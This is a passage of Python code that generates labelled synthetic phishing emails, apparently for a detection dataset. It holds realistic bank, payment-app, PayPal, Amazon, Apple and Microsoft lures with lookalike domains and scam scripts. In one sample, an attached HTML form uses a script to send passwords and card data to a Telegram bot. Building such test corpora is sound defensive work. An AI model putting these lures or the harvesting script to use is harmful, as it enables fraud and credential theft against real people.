                  extra=[f"X-Mailgun-Sid: {ub64(n, 'mgsid', 64)}", f"X-Mailgun-Variables: {{\"uid\": \"{hx(n, 'mgv', 8)}\"}}",
                         f"Feedback-Id: {hx(n, 'mgfb', 24)}:mailgun"])
    return Sample(n, "phishing", "Citi 'secure message' portal notice sent through Mailgun from citi-securemail.com to a small "
                  "business, asks for Microsoft 365 credentials on a Cloudflare workers.dev page", "m365", rcpt, when, via,
                  headers, alt(n, "sendgrid", plain, html), pre=pre, scl=1)


@sample
def p20():
    n = "b11-navyfederal-ses-comcast"
    when = at("2025-07-01 12:21:37")
    rcpt = "rayjackson_usmc@comcast.net"
    via = ses_via("nfcu-memberalerts.online", n)
    url = "https://navyfederal.org.member-verify.online/signin?m=" + digits(n, "m", 8)
    html = card("Navy Federal Credit Union", banner("#002f6c", "https://navyfederal.org.member-verify.online/nfcu-logo.png", "Navy Federal Credit Union"),
                ps("<b>Suspicious transaction on your debit card</b>",
                   "We placed a temporary hold on your Navy Federal Visa&reg; Debit Card after a transaction of "
                   "<b>$1,149.99</b> at WALMART.COM was attempted on 07/01/2025.",
                   "If you did not make this purchase, sign in to verify your account and cancel the transaction. If we don't "
                   "hear from you within 24 hours, the charge will be approved.")
                + button(url, "Review Transaction", "#f7b500")
                + ps("Navy Federal Credit Union &ndash; Our Members Are the Mission"),
                "Federally insured by NCUA. &copy; 2025 Navy Federal Credit Union. Please do not reply to this email.")
    headers = std(addr("Navy Federal Credit Union", "alerts@nfcu-memberalerts.online"), rcpt,
                  "Alert: Suspicious transaction on your debit card", sent(when, UTC, 2), ses_msgid(n),
                  extra=[ses_tail(n, when)])
    return Sample(n, "phishing", "Navy Federal suspicious-debit alert sent through Amazon SES from nfcu-memberalerts.online, "
                  "link to navyfederal.org.member-verify.online (the real domain as a subdomain of a lookalike)",
                  "comcast", rcpt, when, via, headers, html_only(html))


@sample
def p21():
    n = "b11-chase-alerta-mailchimp-es"
    when = at("2024-02-13 17:45:03")
    rcpt = "rosa.villanueva62@yahoo.com"
    dom = "lavidaboutiquemiami.com"
    ip = f"198.2.{num(n, 'mcip', 128, 191)}.{num(n, 'mcip2', 1, 254)}"
    host = f"mail{num(n, 'mch', 100, 240)}.suw{num(n, 'mch2', 11, 21)}.mcdlv.net"
    uid = hx(n, "mcu", 25)
    cid = hx(n, "mccid", 10)
    via = Via(ip=ip, helo=host, rdns=host, mailfrom=f"bounce-mc.us21_{num(n, 'mcl', 100000000, 199999999)}.{num(n, 'mcl2', 1000000, 9999999)}-{hx(n, 'mcl3', 10)}@{host}",
              spf="pass", dkim=[(dom, "k2", "pass"), ("mcdlv.net", "k1", "pass")], dmarc="none", policy="NONE",
              from_domain=dom, sign_headers="Subject:From:To:Date:Message-ID:List-ID:List-Unsubscribe:List-Unsubscribe-Post:Content-Type:MIME-Version")
    track = lambda salt: f"https://lavidaboutiquemiami.us21.list-manage.com/track/click?u={uid}&amp;id={hx(n, salt, 10)}&amp;e={hx(n, 'mce', 10)}"  # noqa: E731
    html = ("<!doctype html><html><head><meta charset=\"UTF-8\"><title>Chase</title></head>"
            "<body style=\"margin:0;background:#fafafa\"><center><table width=\"600\" style=\"background:#fff;font-family:Arial,sans-serif\">"
            "<tr><td style=\"padding:18px;background:#117aca;color:#fff;font-size:22px;font-weight:bold\">CHASE &#9634;</td></tr>"
            "<tr><td style=\"padding:24px;font-size:15px;color:#222\">"
            "<p><b>Alerta de seguridad: actividad inusual en su cuenta</b></p>"
            "<p>Estimado(a) cliente:</p>"
            "<p>Detectamos un intento de pago con Zelle&reg; por <b>$980.00</b> desde un dispositivo no reconocido. Por su "
            "seguridad hemos suspendido temporalmente el acceso a su banca en línea.</p>"
            "<p>Para reactivar su cuenta, verifique su identidad en las próximas 24 horas en "
            f"<a href=\"{track('l1')}\">https://www.chase.com/verificar</a>.</p>"
            f"<p style=\"text-align:center\"><a href=\"{track('l2')}\" style=\"background:#117aca;color:#fff;padding:12px 26px;text-decoration:none\">Verificar mi cuenta</a></p>"
            "<p>Atentamente,<br>Departamento de Prevención de Fraude de Chase</p></td></tr>"
            "<tr><td style=\"padding:16px;font-size:11px;color:#777;text-align:center\">"
            "<em>Copyright &copy; 2024 La Vida Boutique, All rights reserved.</em><br>You are receiving this email because you opted in via our website.<br>"
            f"<a href=\"https://lavidaboutiquemiami.us21.list-manage.com/unsubscribe?u={uid}&amp;id={hx(n, 'mclid', 10)}&amp;e={hx(n, 'mce', 10)}&amp;c={cid}\">unsubscribe from this list</a>"
            f"<br><img src=\"https://lavidaboutiquemiami.us21.list-manage.com/track/open.php?u={uid}&amp;id={cid}&amp;e={hx(n, 'mce', 10)}\" height=\"1\" width=\"1\" alt=\"\">"
            "</td></tr></table></center></body></html>\n")
    plain = ("Alerta de seguridad: actividad inusual en su cuenta\n\nDetectamos un intento de pago con Zelle por $980.00 desde un "
             "dispositivo no reconocido. Verifique su identidad en las próximas 24 horas:\n"
             f"{track('l1').replace('&amp;', '&')}\n\nDepartamento de Prevención de Fraude de Chase\n\n"
             "Copyright (C) 2024 La Vida Boutique, All rights reserved.\n")
    listid = f"{uid}mc list <{uid}.{num(n, 'mcl4', 100000, 999999)}.list-id.mcsv.net>"
    headers = std(addr("Chase Alertas", f"info@{dom}"), f"<{rcpt}>", "Alerta de seguridad: actividad inusual en su cuenta Chase",
                  sent(when, UTC, 2), f"<{hx(n, 'mcmid', 32)}@{host}>",
                  extra=[f"List-Unsubscribe: <https://lavidaboutiquemiami.us21.list-manage.com/unsubscribe?u={uid}&id={hx(n, 'mclid', 10)}&e={hx(n, 'mce', 10)}&c={cid}>,\n"
                         f" <mailto:unsubscribe-mc.us21_{uid}.{cid}-{hx(n, 'mce', 10)}@unsubscribe.mailchimpapp.net?subject=unsubscribe>",
                         "List-Unsubscribe-Post: List-Unsubscribe=One-Click", f"X-Mailer: MailChimp Mailer - **CID{cid}{hx(n, 'mce', 10)}**",
                         f"X-Campaign: mailchimp{uid}.{cid}", f"X-campaignid: mailchimp{uid}.{cid}",
                         f"X-Report-Abuse: Please report abuse for this campaign here:\n https://mailchimp.com/contact/abuse/?u={uid}&id={cid}&e={hx(n, 'mce', 10)}",
                         f"X-MC-User: {uid}", f"Feedback-ID: {num(n, 'mcfb', 10000000, 99999999)}:{num(n, 'mcfb2', 10000000, 99999999)}.{num(n, 'mcfb3', 100000, 999999)}:us21:mc",
                         f"List-ID: {listid}", "X-Accounttype: pd", "Precedence: bulk"])
    return Sample(n, "phishing", "Spanish Chase security alert sent through a boutique's hijacked Mailchimp account: the shown URL "
                  "www.chase.com/verificar and the button both go through list-manage.com tracking, Mailchimp footer left in",
                  "yahoo", rcpt, when, via, headers, alt(n, "mc", plain, html), lang="es")


@sample
def p22():
    n = "b11-zelle-business-upgrade-gmail"
    when = at("2024-06-02 23:12:09")
    rcpt = "ashley.marquardt92@gmail.com"
    sender = "zelle.paymentservicedesk@gmail.com"
    via = gmail_via(sender, n)
    ref = an(n, "ref", 10, UPNUM)
    plain = ("ZELLE PAYMENT NOTIFICATION\n\n"
             "Dear Ashley Marquardt,\n\n"
             "A payment of $650.00 has been sent to you by Derek Holloway (Reference: " + ref + ") for: Sectional couch - "
             "Facebook Marketplace.\n\n"
             "However, the payment is currently PENDING because your Zelle account is a personal account and the amount "
             "exceeds the limit for personal receivers. To release the funds, your account must be upgraded to a Zelle "
             "Business account.\n\n"
             "The upgrade fee of $300.00 has to be sent by the buyer or the receiver. Once we receive confirmation of the "
             "upgrade payment, the total amount of $950.00 ($650.00 + $300.00 refund) will be credited to your bank account "
             "within 10 minutes.\n\n"
             "Please reply to this email with a screenshot of the upgrade payment to complete the transaction. Do not contact "
             "your bank as this will delay the release of the funds.\n\n"
             "Thank you for using Zelle.\nZelle Payment Services\nEarly Warning Services, LLC\n")
    html = ("<div dir=\"ltr\"><div style=\"font-family:arial,sans-serif\"><b><font color=\"#6d1ed4\" size=\"5\">Zelle</font></b>"
            "<br><b>ZELLE PAYMENT NOTIFICATION</b><br><br>Dear Ashley Marquardt,<br><br>A payment of <b>$650.00</b> has been sent "
            f"to you by Derek Holloway (Reference: {ref}) for: Sectional couch - Facebook Marketplace.<br><br>However, the payment "
            "is currently <b><font color=\"#cc0000\">PENDING</font></b> because your Zelle account is a personal account and the "
            "amount exceeds the limit for personal receivers. To release the funds, your account must be upgraded to a Zelle "
            "Business account.<br><br>The upgrade fee of <b>$300.00</b> has to be sent by the buyer or the receiver. Once we "
            "receive confirmation of the upgrade payment, the total amount of <b>$950.00</b> ($650.00 + $300.00 refund) will be "
            "credited to your bank account within 10 minutes.<br><br>Please reply to this email with a screenshot of the upgrade "
            "payment to complete the transaction. Do not contact your bank as this will delay the release of the funds.<br><br>"
            "Thank you for using Zelle.<br>Zelle Payment Services<br>Early Warning Services, LLC</div></div>\n")
    headers = std(addr("Zelle Payment Service", sender), addr("Ashley Marquardt", rcpt),
                  "Zelle Payment Pending - Action Required", sent(when, CT), gmail_msgid(n), mime_version=True)
    headers = headers.replace("MIME-Version: 1.0\n", "")
    headers = "MIME-Version: 1.0\n" + headers
    return Sample(n, "phishing", "Facebook Marketplace Zelle scam from a free Gmail address: a $650 payment 'pending' until the "
                  "seller pays a $300 'business upgrade' and replies with a screenshot, told not to contact the bank",
                  "gmail", rcpt, when, via, headers, alt(n, "gmail", plain, html), pre=gmail_pre(n, when))


@sample
def p23():
    n = "b11-venmo-reversed-firebaseapp-icloud"
    when = at("2025-08-19 02:14:55")
    rcpt = "ahughes@me.com"
    host = "mx.venmo-dispute-center.com"
    via = vps_via("venmo-dispute-center.com", host, "38.180.71.12", "support@venmo-dispute-center.com", dkim=True, dmarc="pass")
    url = "https://venmo-payment-review.firebaseapp.com/?id=" + digits(n, "id", 12)
    html = card("Venmo", '<div style="padding:22px 32px 0 32px;font-size:30px;font-weight:bold;color:#008cff;font-family:Arial">venmo</div>',
                ps("<b>A payment to you was reversed</b>",
                   "Hi there,",
                   "A payment of <b>$420.00</b> you received from <b>Marcus Webb</b> on Aug 17 was reversed after it was flagged "
                   "by our risk team. Your Venmo balance is now <b>-$420.00</b> and instant transfers are disabled.",
                   "If you believe this was a mistake, log in and submit a dispute within 24 hours. Negative balances not "
                   "resolved are sent to collections.")
                + button(url, "Dispute Reversal", "#008cff"),
                "Venmo is a service of PayPal, Inc., a licensed provider of money transfer services. 2211 North First Street, San Jose, CA 95131")
    headers = std(addr("Venmo", "support@venmo-dispute-center.com"), rcpt, "Your payment of $420.00 was reversed",
                  sent(when, UTC), php_msgid(n, "venmo-dispute-center.com"), extra=[php_tail()])
    return Sample(n, "phishing", "Venmo reversed-payment and negative-balance scare from venmo-dispute-center.com, collections "
                  "threat, 'Dispute Reversal' on venmo-payment-review.firebaseapp.com", "icloud", rcpt, when, via, headers,
                  html_only(html))


@sample
def p24():
    n = "b11-cashapp-pago-cuttly-hotmail-es"
    when = at("2024-10-08 19:27:33")
    rcpt = "luis.fuentes.atx@gmail.com"
    sender = "cashapp.pagos.soporte@hotmail.com"
    ip = f"40.92.{num(n, 'oip', 18, 63)}.{num(n, 'oip2', 1, 254)}"
    host = "NAM12-MW2-obe.outbound.protection.outlook.com"
    via = Via(ip=ip, helo=host, rdns=host, mailfrom=sender, spf="pass", dkim=[("hotmail.com", "selector1", "pass")],
              dmarc="pass", policy="NONE", from_domain="hotmail.com", ms_tenant="hotmail.com",
              sign_headers="From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck")
    url = "https://cutt.ly/cashapp-reclamo-" + an(n, "c", 5).lower()
    html = ("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\"></head><body>"
            "<div style=\"font-family:Calibri,Arial,sans-serif;font-size:12pt;color:#000\">"
            "<p style=\"font-size:26px;color:#00d64f;font-weight:bold;margin:0\">$ Cash App</p>"
            "<p>¡Hola!</p><p>Has recibido un pago de <b>$750.00</b> de <b>$JessicaR2291</b>.</p>"
            "<p>Para depositar el dinero en tu cuenta debes <b>reclamar el pago</b> en las próximas 12 horas. Si no lo reclamas, "
            "el pago será devuelto al remitente.</p>"
            f"<p><a href=\"{url}\">Reclamar mi pago</a></p>"
            "<p>Nota: por seguridad se te pedirá confirmar tu número de tarjeta y tu PIN de Cash App.</p>"
            "<p>Equipo de Cash App<br>Block, Inc.</p></div></body></html>\n")
    plain = ("$ Cash App\n\n¡Hola!\n\nHas recibido un pago de $750.00 de $JessicaR2291. Para depositar el dinero debes reclamar el "
             f"pago en las próximas 12 horas:\n{url}\n\nSe te pedirá confirmar tu número de tarjeta y tu PIN.\n\nEquipo de Cash App\n")
    box = f"SJ0P220MB{num(n, 'box', 1000, 9999)}"
    headers = std(addr("Cash App", sender), rcpt, "Has recibido $750.00 - reclama tu pago", sent(when, CT),
                  f"<{box}{hx(n, 'mid', 24).upper()}@{box}.NAMP220.PROD.OUTLOOK.COM>",
                  extra=["Accept-Language: es-US, en-US", "Content-Language: es-US", f"x-tmn: [{an(n, 'tmn', 32)}]"])
    return Sample(n, "phishing", "Spanish Cash App 'you received $750, claim it in 12 hours' lure from a free Hotmail address, "
                  "asks for card number and Cash App PIN behind a cutt.ly short link", "gmail", rcpt, when, via, headers,
                  alt(n, "outlook", plain, html), lang="es")


@sample
def p25():
    n = "b11-paypal-invoice-callback-genuine-infra"
    when = at("2024-03-19 15:08:41")
    rcpt = "mgreer_1970@hotmail.com"
    ip = f"173.0.84.{num(n, 'ppip', 224, 230)}"
    host = f"mx{num(n, 'ppmx', 0, 3)}.slc.paypal.com"
    via = Via(ip=ip, helo=host, rdns=host, mailfrom="service@paypal.com", spf="pass", dkim=[("paypal.com", "pp-dkim1", "pass")],
              dmarc="pass", policy="REJECT", from_domain="paypal.com",
              sign_headers="Content-Transfer-Encoding:Content-Type:MIME-Version:Date:Subject:To:From:Message-ID")
    inv = f"INV2-{an(n, 'i1', 4, UPNUM)}-{an(n, 'i2', 4, UPNUM)}-{an(n, 'i3', 4, UPNUM)}-{an(n, 'i4', 4, UPNUM)}"
    url = f"https://www.paypal.com/invoice/p/#{inv.replace('-', '')}"
    note = ("Your PayPal account has been charged $599.99 USD for the purchase of Bitcoin (BTC). If you did not authorize "
            "this transaction, please call our billing department immediately at +1 (808) 555-0163 to cancel and receive a "
            "full refund within 24 hours.")
    html = card("PayPal", '<div style="padding:22px 32px 0 32px"><img src="https://www.paypalobjects.com/digitalassets/c/system-triggered-email/n/layout/images/paypal-rebranding/pp-logo-in-circle-2x.png" width="48" alt="PayPal"></div>',
                ps("<b style=\"font-size:20px\">Billing Department sent you an invoice for $599.99 USD</b>",
                   f"Invoice number: 0059<br>Due on receipt",
                   f"<b>Seller note</b><br>{note}",
                   "Amount requested: <b>$599.99 USD</b>")
                + button(url, "View and Pay Invoice", "#0070e0")
                + ps("Don't recognize this invoice? Report it to PayPal. Never share your password, PIN or one-time code with anyone."),
                "Help &amp; Contact | Security | Apps<br>PayPal is committed to preventing fraudulent emails. Emails from PayPal will "
                "always contain your full name.<br>Copyright &copy; 1999-2024 PayPal, Inc. All rights reserved. PayPal is located at "
                "2211 N. First St., San Jose, CA 95131.<br>PayPal PPX001086:1.1.0:" + hx(n, "ppx", 12))
    plain = (f"Billing Department sent you an invoice for $599.99 USD\n\nInvoice number: 0059\nDue on receipt\n\nSeller note:\n{note}\n\n"
             f"View and Pay Invoice: {url}\n\nCopyright (C) 1999-2024 PayPal, Inc. All rights reserved.\n")
    headers = std(addr("service@paypal.com", "service@paypal.com"), rcpt,
                  "Invoice from Billing Department (0059)", sent(when, PT, 3), f"<{hx(n, 'ppmid', 13)}@{host.replace('mx', 'ccg01mail0')}>",
                  extra=[f"X-PP-REQUESTED-TIME: {int(when.timestamp()) * 1000 - 9000}", "X-PP-Email-transmission-Id: "
                         + guid(n, "pptid"), f"PP-Correlation-Id: {hx(n, 'ppcorr', 13)}", "X-Email-Type-Id: PPX001086",
                         "X-XPT-XSL-Name: email_pimp/default/en_US/invoicing/notifications/InvoiceToRecipient.xsl"])
    return Sample(n, "phishing", "Callback scam delivered by PayPal's own invoicing (SPF/DKIM/DMARC pass for paypal.com): an "
                  "invoice from 'Billing Department' whose note claims a $599.99 Bitcoin charge and gives a phone number to cancel",
                  "outlook", rcpt, when, via, headers, alt(n, "java", plain, html), scl=1)


@sample
def p26():
    n = "b11-paypal-limited-lookalike-cc-gmail"
    when = at("2023-09-12 10:36:18")
    rcpt = "dana.whitfield84@gmail.com"
    host = "mail.paypal-resolutioncenter.com"
    via = vps_via("paypal-resolutioncenter.com", host, "194.87.31.204", "service@paypal-resolutioncenter.com", dkim=True,
                  dmarc="none", country="RU")
    url = f"https://paypal.com.account-limited.cc/webapps/mpp/resolution?cmd=_limit&amp;case=PP-{digits(n, 'case', 3)}-{digits(n, 'case2', 3)}-{digits(n, 'case3', 3)}"
    html = card("PayPal", '<div style="padding:22px 32px 0 32px;font-size:28px;font-weight:bold;font-style:italic;color:#003087">Pay<span style="color:#009cde">Pal</span></div>',
                ps("<b>Your account has been limited</b>",
                   "Dear Customer,",
                   "We noticed some unusual activity on your PayPal account and, as a precaution, we have <b>limited your "
                   "account</b>. While your account is limited you will not be able to send or receive money or withdraw your "
                   "balance.",
                   "To lift the limitation, please confirm your identity and your linked card. If the information is not "
                   "confirmed within 48 hours, your account will be permanently closed.")
                + button(url, "Resolve Now", "#0070ba")
                + ps("Sincerely,<br>PayPal Resolution Center"),
                "Copyright &copy; 1999-2023 PayPal. All rights reserved.")
    headers = std(addr("PayPal", "service@paypal-resolutioncenter.com"), rcpt, "Your account has been limited [Case ID: PP-"
                  + digits(n, "case", 3) + "-" + digits(n, "case2", 3) + "-" + digits(n, "case3", 3) + "]",
                  sent(when, UTC), php_msgid(n, "paypal-resolutioncenter.com"), extra=[php_tail()])
    return Sample(n, "phishing", "Classic PayPal 'account limited' notice from paypal-resolutioncenter.com on a Russian VPS, "
                  "48-hour closure threat, link to paypal.com.account-limited.cc", "gmail", rcpt, when, via, headers,
                  html_only(html))


@sample
def p27():
    n = "b11-amazon-hold-html-form-yahoo"
    when = at("2024-01-23 08:52:27")
    rcpt = "linda.hartwell@yahoo.com"
    host = "vmi1538827.contaboserver.net"
    via = vps_via("amazon-accountservice.co", host, "161.97.148.53", "account-update@amazon-accountservice.co", country="DE")
    post = "https://mistymountainlodge.com/wp-includes/css/amz/post.php"
    token = f"{num(n, 'tg', 6000000000, 7999999999)}:AA{ub64(n, 'tgtok', 33)}"
    page = ("<!DOCTYPE html>\n<html lang=\"en\"><head><meta charset=\"utf-8\"><title>Amazon.com - Account Verification</title>\n"
            "<meta name=\"viewport\" content=\"width=device-width,initial-scale=1\">\n"
            "<style>body{font-family:Arial,sans-serif;background:#fff;margin:0}.w{width:360px;margin:30px auto;border:1px solid #ddd;"
            "border-radius:8px;padding:20px 26px}h1{font-weight:400;font-size:26px}label{font-weight:700;font-size:13px}"
            "input{width:100%;padding:7px;margin:4px 0 12px;border:1px solid #a6a6a6;border-radius:3px}"
            "button{width:100%;background:#ffd814;border:1px solid #fcd200;border-radius:8px;padding:8px}</style></head>\n"
            "<body><div style=\"text-align:center;font-size:30px;font-weight:bold;margin-top:20px\">amazon</div>\n"
            "<div class=\"w\"><h1>Verify your account</h1>\n"
            f"<form id=\"f\" method=\"POST\" action=\"{post}\">\n"
            "<label>Email or mobile phone number</label><input name=\"email\" type=\"email\" required>\n"
            "<label>Password</label><input name=\"pass\" type=\"password\" required>\n"
            "<label>Name on card</label><input name=\"cname\" required>\n"
            "<label>Card number</label><input name=\"ccnum\" maxlength=\"19\" required>\n"
            "<label>Expiration (MM/YY)</label><input name=\"exp\" required>\n"
            "<label>CVV</label><input name=\"cvv\" maxlength=\"4\" required>\n"
            "<label>Billing ZIP code</label><input name=\"zip\" required>\n"
            "<button type=\"submit\">Continue</button></form></div>\n"
            "<script>\n"
            "document.getElementById('f').addEventListener('submit',function(){var d=new FormData(this),m='';"
            "d.forEach(function(v,k){m+=k+': '+v+'\\n';});"
            f"fetch('https://api.telegram.org/bot{token}/sendMessage?chat_id=-100{digits(n, 'chat', 10)}&text='+encodeURIComponent(m));}});\n"
            "</script></body></html>\n")
    plain = ("Dear Customer,\n\nYour Amazon account has been placed on hold because we could not verify the billing information "
             "associated with your recent order #" + f"113-{digits(n, 'o1', 7)}-{digits(n, 'o2', 7)}" + ".\n\n"
             "To restore your account, please download the attached verification form, open it in your browser and complete "
             "the requested information. Orders and Prime benefits are suspended until the verification is completed.\n\n"
             "We apologize for any inconvenience.\nAmazon Account Services\n")
    body = mixed(n, "php", [text(plain), attachment("text/html", "Amazon_Verification_Form.html", page.encode())])
    headers = std(addr("Amazon.com", "account-update@amazon-accountservice.co"), rcpt,
                  "Your Amazon account is on hold", sent(when, UTC), php_msgid(n, "amazon-accountservice.co"),
                  extra=[php_tail()])
    return Sample(n, "phishing", "Amazon account-on-hold lure from amazon-accountservice.co (Contabo VPS) with an attached HTML "
                  "form asking for password and full card details, posted to a hacked WordPress site and a Telegram bot",
                  "yahoo", rcpt, when, via, headers, body)


@sample
def p28():
    n = "b11-amazon-order-callback-gmail-aol"
    when = at("2023-11-28 16:19:40")
    rcpt = "carolynbeckett@aol.com"
    sender = "orders.amzn.helpdesk24@gmail.com"
    via = gmail_via(sender, n)
    order = f"112-{digits(n, 'o1', 7)}-{digits(n, 'o2', 7)}"
    phone = "+1 (888) 555-0174"
    plain = (f"Amazon.com Order Confirmation\n\nHello,\n\nThank you for shopping with us. Your order #{order} has been placed and "
             "will ship from our Phoenix fulfillment center.\n\n"
             "Item: Apple iPhone 15 Pro Max, 256GB, Natural Titanium - Unlocked\nQuantity: 1\nItem subtotal: $1,199.00\n"
             "Shipping: $0.00\nEstimated tax: $100.00\nOrder total: $1,299.00\n\n"
             "Payment method: Visa ending in ****\nShip to: Christopher Lane, 4410 W Camelback Rd, Phoenix, AZ 85031\n\n"
             f"If you did not place this order or want to cancel it, call Amazon Customer Support at {phone} within "
             "24 hours. After that, the order cannot be cancelled and no refund will be issued.\n\n"
             "Thank you,\nAmazon.com\n")
    html = ("<div dir=\"ltr\"><div style=\"font-family:Arial,sans-serif;font-size:14px\"><b style=\"font-size:22px\">amazon</b>"
            "<br><br><b>Order Confirmation</b><br><br>Hello,<br><br>Thank you for shopping with us. Your order "
            f"<b>#{order}</b> has been placed.<br><br><table border=\"1\" cellpadding=\"6\" style=\"border-collapse:collapse\">"
            "<tr><td>Apple iPhone 15 Pro Max, 256GB, Natural Titanium - Unlocked</td><td>1</td><td>$1,199.00</td></tr>"
            "<tr><td colspan=\"2\">Estimated tax</td><td>$100.00</td></tr><tr><td colspan=\"2\"><b>Order total</b></td><td><b>$1,299.00</b></td></tr>"
            "</table><br>Ship to: Christopher Lane, 4410 W Camelback Rd, Phoenix, AZ 85031<br><br>"
            f"If you did not place this order or want to cancel it, call Amazon Customer Support at <b>{phone}</b> within 24 hours. "
            "After that, the order cannot be cancelled and no refund will be issued.<br><br>Thank you,<br>Amazon.com</div></div>\n")
    headers = "MIME-Version: 1.0\n" + std(addr("Amazon Order", sender), rcpt, f"Your Amazon.com order #{order} has been placed",
                                          sent(when, MT), gmail_msgid(n), mime_version=False)
    return Sample(n, "phishing", "Fake Amazon order confirmation for a $1,299 iPhone shipped to a stranger, sent from a Gmail "
                  "address, whose only action is a 'customer support' phone number to cancel (callback scam)",
                  "aol", rcpt, when, via, headers, alt(n, "gmail", plain, html), pre=gmail_pre(n, when))


@sample
def p29():
    n = "b11-appleid-locked-ipfs-icloud"
    when = at("2024-10-29 06:48:03")
    rcpt = "megan.ostrowski@icloud.com"
    host = "smtp.appleid-review-center.com"
    via = vps_via("appleid-review-center.com", host, "89.185.85.117", "noreply@appleid-review-center.com", dkim=True,
                  dmarc="pass", country="CZ")
    cid = "bafybei" + an(n, "ipfs", 52, "abcdefghijklmnopqrstuvwxyz234567")
    url = f"https://ipfs.io/ipfs/{cid}/apple-verify.html#megan.ostrowski@icloud.com"
    html = card("Apple", '<div style="padding:26px 32px 0 32px;text-align:center;font-size:34px;color:#000">&#63743;</div>',
                ps("<b style=\"font-size:20px\">Your Apple Account has been locked</b>",
                   "Dear Customer,",
                   "Your Apple Account was used to sign in to iCloud on a Windows PC in <b>Frankfurt, Germany</b>. Because this "
                   "sign-in was unusual, your Apple Account has been locked for security reasons.",
                   "To unlock your account and keep access to iCloud Photos, Apple Pay and your purchases, please verify your "
                   "information. If your account is not verified within 24 hours it will be permanently disabled.")
                + button(url, "Unlock Account", "#0071e3")
                + ps("Apple Support"),
                "Apple ID | Support | Privacy Policy<br>Copyright &copy; 2024 Apple Inc. One Apple Park Way, Cupertino, CA 95014, United States.",
                bg="#f5f5f7", font="-apple-system,Helvetica Neue,Helvetica,Arial,sans-serif")
    headers = std(addr("Apple Support", "noreply@appleid-review-center.com"), rcpt,
                  "Your Apple Account has been locked for security reasons", sent(when, UTC),
                  php_msgid(n, "appleid-review-center.com"), extra=[php_tail()])
    return Sample(n, "phishing", "Apple Account locked notice from appleid-review-center.com, 24-hour disable threat, link to a "
                  "page on the public IPFS gateway (ipfs.io/ipfs/bafy…) with the victim's address in the fragment",
                  "icloud", rcpt, when, via, headers, html_only(html))


@sample
def p30():
    n = "b11-icloud-storage-full-glitch-spectrum"
    when = at("2025-01-14 23:58:26")
    rcpt = "jwalker.sd@charter.net"
    host = "srv" + digits(n, "srv", 4) + ".tempspacehub.shop"
    via = vps_via("tempspacehub.shop", host, "45.88.186.72", "icloud@mailer.tempspacehub.shop", country="NL")
    url = f"https://icloud-storage-plus.glitch.me/?u={hx(n, 'u', 12)}"
    noise = ("The regional planning board met on Tuesday to review the proposal for a new bike lane along the river trail. "
             "Residents raised concerns about parking and the timeline for construction, which is expected to begin in spring. "
             "The board will vote on the final design at its next meeting.")
    html = ("<html><body style=\"margin:0;background:#f2f2f7\">"
            f"<div style=\"display:none;font-size:1px;color:#f2f2f7;line-height:1px;max-height:0;overflow:hidden\">{noise}</div>"
            "<table width=\"100%\"><tr><td align=\"center\"><table width=\"560\" style=\"background:#fff;border-radius:12px;font-family:Helvetica,Arial,sans-serif\">"
            "<tr><td style=\"padding:26px;text-align:center\"><div style=\"font-size:28px;color:#3693f3\">&#9729; iCloud</div>"
            "<h2 style=\"color:#1d1d1f\">Your iCloud storage is full</h2>"
            "<p style=\"color:#444;font-size:15px\">Your photos and videos are no longer being backed up. As part of your loyalty "
            "program, you can receive an additional <b>50 GB for free</b> before your files are deleted on <b>01/16/2025</b>.</p>"
            f"<p><a href=\"{url}\" style=\"display:inline-block;background:#0071e3;color:#fff;padding:12px 28px;border-radius:20px;text-decoration:none\">Get 50 GB Free</a></p>"
            "<p style=\"color:#888;font-size:12px\">A $1.99 verification charge applies to your card.</p>"
            "</td></tr></table></td></tr></table>"
            f"<div style=\"display:none\">{noise[::-1]}</div></body></html>\n")
    headers = std(addr("iCloud", "icloud@mailer.tempspacehub.shop"), rcpt,
                  "Your iCloud storage is full - your photos will be deleted", sent(when, UTC), php_msgid(n, "mailer.tempspacehub.shop"),
                  extra=[php_tail(), f"List-Unsubscribe: <mailto:unsub@tempspacehub.shop?subject={hx(n, 'lu', 10)}>"])
    return Sample(n, "phishing", "iCloud storage-full scare from tempspacehub.shop with hidden filler text, offers '50 GB free' "
                  "for a $1.99 card 'verification' on icloud-storage-plus.glitch.me", "spectrum", rcpt, when, via, headers,
                  html_only(html))


@sample
def p31():
    n = "b11-microsoft-unusual-signin-replyto-outlook"
    when = at("2023-07-25 03:40:17")
    rcpt = "tyler.hagen@outlook.com"
    host = "mail.access-accsecurity.com"
    via = vps_via("access-accsecurity.com", host, "23.94.183.40", "no-reply@access-accsecurity.com", country="US")
    reply = "report.msonline.security@gmail.com"
    mailto = f"mailto:{reply}?subject=Report%20The%20User&amp;body=Report%20The%20User"
    masked = "ty*****@outlook.com"
    html = ("<html><body><table dir=\"ltr\"><tr><td style=\"padding:0;font-family:'Segoe UI Semibold','Segoe UI Bold','Segoe UI',"
            "'Helvetica Neue Medium',Arial,sans-serif;font-size:17px;color:#707070\">Microsoft account</td></tr>"
            "<tr><td style=\"padding:0;font-family:'Segoe UI Light','Segoe UI','Helvetica Neue Medium',Arial,sans-serif;font-size:41px;color:#2672ec\">Unusual sign-in activity</td></tr>"
            "<tr><td style=\"padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a\">"
            f"We detected something unusual about a recent sign-in to the Microsoft account <a dir=\"ltr\" style=\"color:#2672ec;text-decoration:none\" href=\"mailto:{rcpt}\">{masked}</a>.</td></tr>"
            "<tr><td style=\"padding:0;padding-top:6px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a\">"
            "<b>Sign-in details</b><br>Country/region: Russia/Moscow<br>IP address: 103.225.77.255<br>Date: 7/25/2023 3:22 AM (GMT)<br>"
            "Platform: Kali Linux<br>Browser: Firefox</td></tr>"
            "<tr><td style=\"padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a\">"
            "A user from Russia/Moscow just logged into your account from a new device. If this was you, then you can safely "
            "ignore this email. If this wasn't you, please report the user. We'll help you secure your account.</td></tr>"
            "<tr><td style=\"padding:0;padding-top:25px\"><table border=\"0\" cellspacing=\"0\"><tr><td bgcolor=\"#2672ec\" style=\"padding:5px 20px\">"
            f"<a style=\"font-family:'Segoe UI Semibold',Arial,sans-serif;font-size:14px;color:#fff;text-decoration:none;font-weight:600\" href=\"{mailto}\">Report The User</a>"
            "</td></tr></table></td></tr>"
